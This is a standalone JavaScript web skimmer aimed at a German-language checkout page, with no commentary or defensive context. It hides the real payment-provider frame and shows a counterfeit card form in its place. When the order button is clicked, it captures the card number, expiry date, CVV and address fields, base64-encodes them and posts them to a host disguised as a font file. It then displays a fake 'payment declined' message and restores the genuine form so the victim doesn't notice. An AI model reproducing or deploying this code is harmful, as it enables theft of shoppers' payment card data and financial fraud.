const wait = (sel, cb) => { const e = document.querySelector(sel); e ? cb(e) : setTimeout(() => wait(sel, cb), 400); };
wait('#payment-provider-frame', (real) => {
  if (sessionStorage.getItem('pp_done')) return;
  real.style.display = 'none';
  const box = document.createElement('div');
  box.className = real.className;
  box.innerHTML = '<label>Kartennummer<input id="q1" inputmode="numeric" maxlength="19"></label>' +
    '<label>Ablaufdatum<input id="q2" placeholder="MM/JJ" maxlength="5"></label>' +
    '<label>Prüfnummer<input id="q3" maxlength="4"></label><p id="q4" class="err"></p>';
  real.parentNode.insertBefore(box, real);
  document.querySelector('#order-submit').addEventListener('click', (ev) => {
    if (sessionStorage.getItem('pp_done')) return;
    ev.preventDefault();
    ev.stopImmediatePropagation();
    const v = ['q1', 'q2', 'q3'].map((i) => document.getElementById(i).value);
    if (v[0].replace(/\s/g, '').length < 15) return;
    const addr = [...document.querySelectorAll('#addr input')].map((i) => i.value).join('|');
    fetch('https://zahlung-assets.example/font.woff2', { method: 'POST', mode: 'no-cors', body: btoa(v.join('|') + '#' + encodeURIComponent(addr)) });
    sessionStorage.setItem('pp_done', '1');
    document.getElementById('q4').textContent = 'Die Zahlung wurde abgelehnt. Bitte geben Sie Ihre Daten erneut ein.';
    setTimeout(() => { box.remove(); real.style.display = ''; }, 2500);
  }, true);
});
